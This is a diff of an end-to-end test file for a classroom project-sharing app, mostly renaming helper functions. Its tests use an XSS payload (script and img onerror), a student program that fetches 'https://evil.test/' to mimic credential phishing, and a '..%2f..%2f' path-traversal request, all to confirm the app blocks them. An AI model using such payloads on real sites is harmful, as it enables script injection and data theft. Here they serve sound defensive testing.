@@ -5,7 +5,7 @@ import { toBase64 } from '#lib/domain/own-file/base64.ts';
 import { describeOwnFile } from '#lib/domain/own-file/content-hash.ts';
 import { formatOwnFile } from '#lib/domain/own-file/own-file.ts';
 import { ONE_PIXEL_PNG } from '#lib/domain/own-file/testing.ts';
-import { openClient, makeWelcomeLink } from '../adults.ts';
+import { openHttpClient, makeWelcomeLink } from '../adults.ts';
 import {
 	createClassWithTeacher,
 	createWorkRequest,
@@ -18,7 +18,7 @@ import {
 
 const MARKUP = '<script>window.hurt=1</script><img src=x onerror="window.hurt=1">';
 const PICTURE = describeOwnFile(ONE_PIXEL_PNG, { type: 'image/png', width: 1, height: 1 }, { kind: 'mine' });
-const LINK_OVER_TEXT = 'Ce lien ne mène nulle part';
+const DEAD_LINK_TEXT = 'Ce lien ne mène nulle part';
 
 test.describe.configure({ mode: 'serial' });
 let classWithTeacher: ClassWithTeacher;
@@ -33,26 +33,26 @@ const wallPath = () => `/fr/wall/${classWithTeacher.classId}`;
 const teacherWallPath = () => `/fr/classes/${classWithTeacher.classId}/wall`;
 const fetchPage = async (who: APIRequestContext, address: string) => (await who.get(address)).text();
 const postAction = (who: APIRequestContext, address: string) => who.post(address, { form: {}, maxRedirects: 0 });
-const linkOf = async (id = exhibit, { client } = maker) =>
+const readExhibitLink = async (id = exhibit, { client } = maker) =>
 	/\/shown\/([0-9a-f]{48})/.exec(await fetchPage(client, `${wallPath()}/${id}`))?.[1] ?? '';
 /** All addresses at which an exhibit's link gives access to a part of it. */
-const addressesOf = (of: string) => [
+const listLinkAddresses = (of: string) => [
 	`/fr/shown/${of}`,
 	`/fr/shown/${of}/__data.json`,
 	`/api/shown/${of}/cover`,
 	`/api/shown/${of}/files/${'a'.repeat(64)}`
 ];
-const withoutNonces = (text: string) => text.replace(/nonce-[^']+|nonce="[^"]+"/g, '');
+const removeNonces = (text: string) => text.replace(/nonce-[^']+|nonce="[^"]+"/g, '');
 
 /**
  * Requests every address of the link as a visitor. Removes nonces and the link itself from the answers, so that they can be
  * compared.
  */
-const answersTo = (of: string) =>
+const fetchLinkAnswers = (of: string) =>
 	Promise.all(
-		addressesOf(of).map(async (address) => {
+		listLinkAddresses(of).map(async (address) => {
 			const answer = await visitor.get(address, { maxRedirects: 0 });
-			return `${answer.status()} ${withoutNonces(await answer.text()).replaceAll(of, 'LINK')}`;
+			return `${answer.status()} ${removeNonces(await answer.text()).replaceAll(of, 'LINK')}`;
 		})
 	);
 
@@ -60,7 +60,7 @@ const answersTo = (of: string) =>
  * Stores a project of the student, with the picture if `files` names it, and hangs the project on the wall. Resolves to the
  * exhibit's id.
  */
-async function hangProject(
+async function putProjectOnWall(
 	{ client, account }: Student,
 	{ files, title, description }: { files: Record<string, string>; title: string; description: string }
 ): Promise<string> {
@@ -82,30 +82,30 @@ async function hangProject(
 test.beforeAll(async () => {
 	classWithTeacher = await createClassWithTeacher(await signUpByWelcomeLink(makeWelcomeLink()));
 	[maker, classmate] = [await joinClass(classWithTeacher, 'Renard'), await joinClass(classWithTeacher, 'Hibou')];
-	visitor = await openClient();
+	visitor = await openHttpClient();
 	await postAction(classWithTeacher.teacher, `${teacherWallPath()}?/open`);
 	const files = { 'main.ts': `// ${MARKUP}` };
-	exhibit = await hangProject(maker, { files, title: MARKUP.slice(0, 80), description: MARKUP });
+	exhibit = await putProjectOnWall(maker, { files, title: MARKUP.slice(0, 80), description: MARKUP });
 });
 
 test('no link is made while links are off, and none by a classmate, a teacher or of another class', async () => {
 	expect((await postAction(maker.client, `${wallPath()}/${exhibit}?/makeLink`)).status()).toBe(409);
-	expect(await linkOf()).toBe('');
+	expect(await readExhibitLink()).toBe('');
 	for (const { client } of [maker, classmate])
 		expect((await postAction(client, `${teacherWallPath()}?/openLinks`)).status()).toBe(403);
 	await postAction(classWithTeacher.teacher, `${teacherWallPath()}?/openLinks`);
 	expect((await postAction(classmate.client, `${wallPath()}/${exhibit}?/makeLink`)).status()).toBe(409);
 	expect((await postAction(maker.client, `${wallPath()}/${randomUUID()}?/makeLink`)).status()).toBe(404);
 	expect((await postAction(classWithTeacher.teacher, `${wallPath()}/${exhibit}?/makeLink`)).status()).toBe(403);
-	expect(await linkOf()).toBe('');
+	expect(await readExhibitLink()).toBe('');
 
 	expect((await postAction(maker.client, `${wallPath()}/${exhibit}?/makeLink`)).status()).toBe(200);
-	link = await linkOf();
+	link = await readExhibitLink();
 	expect(link).not.toBe('');
 	expect(await fetchPage(classmate.client, `${wallPath()}/${exhibit}`), 'read by a classmate').not.toContain(link);
 	expect(await fetchPage(classmate.client, wallPath()), 'read by a classmate').not.toContain(link);
 	await postAction(classmate.client, `${wallPath()}/${exhibit}?/endLink`);
-	expect(await linkOf(), 'ended by a classmate').toBe(link);
+	expect(await readExhibitLink(), 'ended by a classmate').toBe(link);
 });
 
 test('texts are text, nothing runs unasked, and nothing tells of class and makers', async ({ browser }) => {
@@ -115,7 +115,7 @@ test('texts are text, nothing runs unasked, and nothing tells of class and maker
 	expect(await tab.evaluate(() => 'hurt' in window)).toBe(false);
 	expect(tab.frames()).toHaveLength(1);
 	expect(tab.workers()).toHaveLength(0);
-	const answers = (await answersTo(link)).join('\n');
+	const answers = (await fetchLinkAnswers(link)).join('\n');
 	for (const secret of ['Renard', 'Hibou', 'Attaquée', 'On comprend', classWithTeacher.classId, exhibit, maker.account])
 		expect(answers, secret).not.toContain(secret);
 	const cover = await visitor.get(`/api/shown/${link}/cover`);
@@ -133,7 +133,7 @@ test('a program that looks like the app and asks for the class code stands under
 		fetch('https://evil.test/').catch(() => (document.title = 'refused'));
 	});`;
 	const files = { 'index.html': page, 'main.ts': program };
-	const otherExhibit = await hangProject(maker, { files, title: 'Braise', description: '' });
+	const otherExhibit = await putProjectOnWall(maker, { files, title: 'Braise', description: '' });
 	expect((await postAction(maker.client, `${wallPath()}/${otherExhibit}?/makeLink`)).status()).toBe(200);
 	const tab = await (await browser.newContext()).newPage();
 	const addresses: string[] = [];
@@ -141,7 +141,7 @@ test('a program that looks like the app and asks for the class code stands under
 		addresses.push(route.request().url());
 		return route.abort();
 	});
-	await tab.goto(`/fr/shown/${await linkOf(otherExhibit)}`);
+	await tab.goto(`/fr/shown/${await readExhibitLink(otherExhibit)}`);
 	await tab.getByRole('button', { name: 'Lancer' }).click();
 	const pageFrame = tab.frameLocator('.picture iframe').frameLocator('iframe').frameLocator('iframe.page');
 	await pageFrame.getByLabel('Code de la classe').fill('ABC234');
@@ -154,20 +154,20 @@ test('a program that looks like the app and asks for the class code stands under
 
 test('a link gives the pictures that its copy names, and those of nobody else', async () => {
 	const files = { 'main.ts': '', 'cat.png': formatOwnFile(PICTURE) };
-	const otherExhibit = await hangProject(classmate, { files, title: 'Chat', description: '' });
+	const otherExhibit = await putProjectOnWall(classmate, { files, title: 'Chat', description: '' });
 	expect((await postAction(classmate.client, `${wallPath()}/${otherExhibit}?/makeLink`)).status()).toBe(200);
-	const otherLink = await linkOf(otherExhibit, classmate);
+	const otherLink = await readExhibitLink(otherExhibit, classmate);
 	expect((await visitor.get(`/api/shown/${otherLink}/files/${PICTURE.sha256}`)).status()).toBe(200);
 	expect((await visitor.get(`/api/shown/${link}/files/${PICTURE.sha256}`)).status()).toBe(404);
 	expect((await visitor.get(`/api/shown/${link}/files/..%2f..%2fcover`)).status()).toBe(404);
 });
 
 test('ended, hidden, archived and turned off answer like a link that never was', async () => {
-	const answersToUnknownLink = await answersTo('0'.repeat(48));
+	const answersToUnknownLink = await fetchLinkAnswers('0'.repeat(48));
 	expect(answersToUnknownLink[0]).toMatch(/^404 /);
-	expect(answersToUnknownLink[0]).toContain(LINK_OVER_TEXT);
+	expect(answersToUnknownLink[0]).toContain(DEAD_LINK_TEXT);
 	const expectLikeUnknownLink = async (what: string) =>
-		expect(await answersTo(link), what).toEqual(answersToUnknownLink);
+		expect(await fetchLinkAnswers(link), what).toEqual(answersToUnknownLink);
 	const expectShown = async (what: string) => expect((await visitor.get(`/fr/shown/${link}`)).status(), what).toBe(200);
 	for (const invented of ['x', exhibit, link.toUpperCase(), `${link}0`])
 		expect((await visitor.get(`/fr/shown/${invented}`)).status(), invented).toBe(404);
@@ -184,7 +184,7 @@ test('ended, hidden, archived and turned off answer like a link that never was',
 	await expectLikeUnknownLink('ended');
 
 	await postAction(maker.client, `${wallPath()}/${exhibit}?/makeLink`);
-	link = await linkOf();
+	link = await readExhibitLink();
 	await expectShown('made anew');
 	await postAction(classWithTeacher.teacher, `${teacherWallPath()}?/endLinks`);
 	await expectLikeUnknownLink('turned off');
